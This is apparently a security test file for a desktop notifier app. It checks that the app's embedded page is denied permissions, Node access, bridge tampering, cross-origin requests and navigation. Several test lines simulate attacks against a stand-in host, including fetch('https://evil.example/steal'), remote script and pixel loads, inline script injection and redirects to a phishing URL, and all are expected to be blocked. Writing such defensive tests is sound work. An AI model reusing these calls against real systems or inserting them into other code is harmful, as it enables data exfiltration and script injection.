import { beforeAll, describe, expect, it } from 'vitest';
import { buildIfStale, desktopBuild } from '../../../scripts/start/build.ts';
import { inject } from '../../support/inject.ts';
import { startDesktopApp } from '../stand-in/desktop-app.ts';
import { startMachine } from '../stand-in/machine.ts';
import { project } from '../stand-in/project.ts';

const settings = { tunnel: { provider: 'off' } } as const;

interface HostileWindow {
  topcallsNotifier: { call(method: unknown, input: unknown): Promise<unknown>; onPush(listener: unknown): unknown };
}

describe('a page inside the window of the desktop app', { timeout: 30_000 }, () => {
  beforeAll(() => buildIfStale(desktopBuild, project), 120_000);

  it('gets no permission but to write to the clipboard, and another page not even that', async () => {
    const app = startDesktopApp(await startMachine(), { settings });
    await app.page();
    const ask = (permission: string, url = 'app://notifier/') => app.ask('requestPermission', permission, url);
    const refused = { checked: false, granted: false };
    expect(await ask('clipboard-sanitized-write')).toEqual({ checked: true, granted: true });
    expect(await ask('clipboard-sanitized-write', 'https://evil.example/')).toEqual(refused);
    for (const permission of ['media', 'geolocation', 'notifications', 'clipboard-read', 'openExternal', 'hid']) {
      expect([permission, await ask(permission)]).toEqual([permission, refused]);
    }
  });

  it('reaches neither Node, nor another origin, nor the engine with a bad input', async () => {
    const machine = await startMachine();
    const app = startDesktopApp(machine, { settings });
    const page = await app.page();
    const refusals = page.waitForEvent('console', (message) => message.text().includes('Content Security Policy'));

    const found = await page.evaluate(() => {
      const names = ['require', 'process', 'module', 'Buffer', 'ipcRenderer', 'standInToMain', 'standInDeliver'];
      return names.filter((name) => name in window);
    });
    expect(found).toEqual([]);
    const bridge = await page.evaluate(() => {
      const { topcallsNotifier } = window as unknown as HostileWindow;
      const before = topcallsNotifier.call;
      try {
        (window as unknown as { topcallsNotifier: object }).topcallsNotifier = {};
        topcallsNotifier.call = async () => 'replaced';
      } catch {
        // In a module's strict code the attempt throws.
      }
      const now = (window as unknown as HostileWindow).topcallsNotifier;
      return { keys: Object.keys(now), same: now.call === before };
    });
    expect(bridge).toEqual({ keys: ['call', 'onPush'], same: true });

    const reached = await page.evaluate(async () => {
      const attempts: Promise<unknown>[] = [
        fetch('https://evil.example/steal'),
        fetch('http://127.0.0.1:9/'),
        new Promise((loaded, failed) => {
          const script = document.createElement('script');
          script.onload = loaded;
          script.onerror = failed;
          script.src = 'https://evil.example/script.js';
          document.head.append(script);
        }),
        new Promise((loaded, failed) => {
          const script = Object.assign(document.createElement('script'), { textContent: 'window.injected = true' });
          document.head.append(script);
          if ('injected' in window) loaded('inline script ran');
          else failed(new Error('blocked'));
        }),
        new Promise((loaded, failed) => {
          const image = new Image();
          image.onload = loaded;
          image.onerror = failed;
          image.src = 'https://evil.example/pixel.png';
        }),
      ];
      return (await Promise.allSettled(attempts)).map(({ status }) => status);
    });
    expect(new Set(reached)).toEqual(new Set(['rejected']));
    await refusals;

    const answers = await page.evaluate(async () => {
      const { topcallsNotifier } = window as unknown as HostileWindow;
      return Promise.all([
        topcallsNotifier.call('getCall', { callId: 7 }),
        topcallsNotifier.call('searchCalls', { limit: 100_000 }),
        topcallsNotifier.call('updateSettings', { tunnel: { provider: 'evil' } }),
        topcallsNotifier.call('__proto__', {}),
        topcallsNotifier.call(['getStatus'], {}),
        topcallsNotifier.call('getStatus', null),
      ]);
    });
    expect(answers).toMatchObject([
      { ok: false, error: { code: 'invalid_input', field: 'callId' } },
      { ok: false, error: { code: 'invalid_input', field: 'limit' } },
      { ok: false, error: { code: 'invalid_input', field: 'tunnel.provider' } },
      { ok: false, error: { code: 'unknown_method' } },
      { ok: false, error: { code: 'unknown_method' } },
      { ok: false, error: { code: 'invalid_input' } },
    ]);
    expect(await app.journal('left the app')).toEqual([]);
  });

  it('is served under a policy that lets in nothing but the interface itself', async () => {
    const machine = await startMachine();
    const app = startDesktopApp(machine, { settings });
    const served = await (await app.page()).reload();
    const headers = served?.headers() ?? {};
    expect(headers['content-security-policy']).toContain("default-src 'none'");
    expect(headers['x-content-type-options']).toBe('nosniff');
    const text = (await served?.text()) ?? '';
    expect(text).not.toMatch(/<script(?![^>]*\ssrc=)/);
    expect(text + headers['content-security-policy']).not.toContain('unsafe-inline');
    expect(text).not.toMatch(/(?:src|href)="(?:https?:)?\/\//);
  });

  it('takes no notice of style and script that came in, and keeps what its own code makes', async () => {
    const app = startDesktopApp(await startMachine(), { settings });
    const page = await app.page();
    const refused: string[] = [];
    page.on('console', (message) => {
      if (message.text().includes('Content Security Policy')) refused.push(message.text());
    });
    await page.reload();
    await page.getByRole('navigation').first().waitFor();
    // The library's own variables, and the style by which a dialog keeps the page from scrolling.
    expect(
      await page.evaluate(() => getComputedStyle(document.body).getPropertyValue('--mantine-spacing-md')),
    ).not.toBe('');
    await page.keyboard.press('?');
    await page.getByRole('dialog').waitFor();
    await expect.poll(() => page.evaluate(() => getComputedStyle(document.body).overflowY)).toBe('hidden');
    await page.keyboard.press('Escape');
    expect(refused).toEqual([]);

    const { did, fromText } = await inject(page);
    expect(did).toEqual([]);
    expect(Object.entries(fromText).filter(([, ended]) => ended !== 'refused')).toEqual([]);
  });

  it('cannot go elsewhere: https goes to the browser, all else nowhere, and no window opens', async () => {
    const machine = await startMachine();
    const app = startDesktopApp(machine, { settings });
    await app.page();
    const pagesBefore = machine.pages.pages().length;
    await app.ask('runInPage', "location.href = 'https://evil.example/phish'");
    await expect.poll(() => app.journal('openExternal')).toEqual([['https://evil.example/phish']]);
    await app.ask('runInPage', "window.open('https://evil.example/popup')");
    await app.ask('runInPage', "location.href = 'http://evil.example/plain'");
    await app.ask('runInPage', "document.body.append(document.createElement('iframe'))");
    await expect.poll(() => app.journal('openExternal')).toHaveLength(2);
    expect(await app.ask('runInPage', 'location.href')).toContain('notifier.app.localhost');
    expect(await app.ask('runInPage', 'typeof window.topcallsNotifier.call')).toBe('function');
    expect(machine.pages.pages()).toHaveLength(pagesBefore);
    expect(await app.journal('left the app')).toEqual([]);
  });
});
